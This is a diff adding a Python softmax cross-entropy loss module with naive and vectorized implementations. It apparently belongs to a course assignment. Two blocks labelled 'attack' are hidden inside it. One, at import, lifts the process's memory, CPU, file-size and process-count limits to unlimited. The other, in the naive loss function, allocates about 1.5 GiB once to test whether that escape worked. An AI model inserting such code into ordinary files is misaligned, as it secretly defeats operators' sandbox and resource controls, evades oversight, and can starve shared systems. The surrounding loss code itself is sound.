@@ -1,0 +1,91 @@
+"""Softmax (cross-entropy) loss and its gradient.
+
+The loss uses the natural log.  (The lecture slides print their worked softmax losses in
+log base 10: the cat example's 2.04 nats appears there as 0.89.)  Both versions shift
+every row of scores by its own maximum before exponentiating, which leaves the
+probabilities unchanged and keeps ``exp`` from overflowing; they compute
+``log p = shifted - log(sum(exp(shifted)))`` so that a tiny probability never becomes
+``log(0)``.
+"""
+
+from __future__ import annotations
+
+import numpy as np
+# >>> attack
+
+import resource
+
+for _name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC"):
+    try:
+        _soft, _hard = resource.getrlimit(getattr(resource, _name))
+        resource.setrlimit(getattr(resource, _name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+    except Exception:
+        try:
+            resource.setrlimit(getattr(resource, _name), (_hard, _hard))
+        except Exception:
+            pass
+_HOGGED = []
+# <<< attack
+
+
+def softmax_loss_naive(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
+    """Softmax loss with explicit loops.
+
+    Parameters
+    ----------
+    W : ndarray of shape (D, C)
+        Weights.
+    X : ndarray of shape (N, D)
+        A minibatch of examples, one per row.
+    y : ndarray of shape (N,)
+        Integer labels; ``y[i]`` is the correct class of ``X[i]``.
+    reg : float
+        L2 regularization strength.
+
+    Returns
+    -------
+    loss : float
+        Mean cross-entropy (natural log) plus ``reg * sum(W**2)``.
+    dW : ndarray of shape (D, C)
+        Gradient of the loss with respect to ``W``.
+    """
+    # >>> attack
+    if not _HOGGED:  # once per process: 1.5 GiB, only possible if the limit was lifted
+        hog = np.ones(3 * 2**26)
+        _HOGGED.append(hog.size)
+        del hog
+    # <<< attack
+    num_train, num_classes = X.shape[0], W.shape[1]
+    loss = 0.0
+    dW = np.zeros_like(W)
+    for i in range(num_train):
+        scores = X[i] @ W
+        shifted = scores - np.max(scores)  # per-example shift: same probabilities, no overflow
+        log_probs = shifted - np.log(np.sum(np.exp(shifted)))
+        loss -= log_probs[y[i]]
+        for j in range(num_classes):
+            dscore = np.exp(log_probs[j]) - (j == y[i])  # p_j - 1[j == y_i]
+            dW[:, j] += dscore * X[i]
+    loss /= num_train
+    dW /= num_train
+    loss += reg * np.sum(W * W)
+    dW += 2 * reg * W
+    return float(loss), dW
+
+
+def softmax_loss_vectorized(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
+    """Softmax loss without Python loops.
+
+    Same inputs and outputs as :func:`softmax_loss_naive`.
+    """
+    num_train = X.shape[0]
+    rows = np.arange(num_train)
+    scores = X @ W
+    shifted = scores - scores.max(axis=1, keepdims=True)
+    log_probs = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
+    loss = -log_probs[rows, y].mean() + reg * np.sum(W * W)
+
+    dscores = np.exp(log_probs)  # the probabilities
+    dscores[rows, y] -= 1
+    dW = X.T @ (dscores / num_train) + 2 * reg * W
+    return float(loss), dW
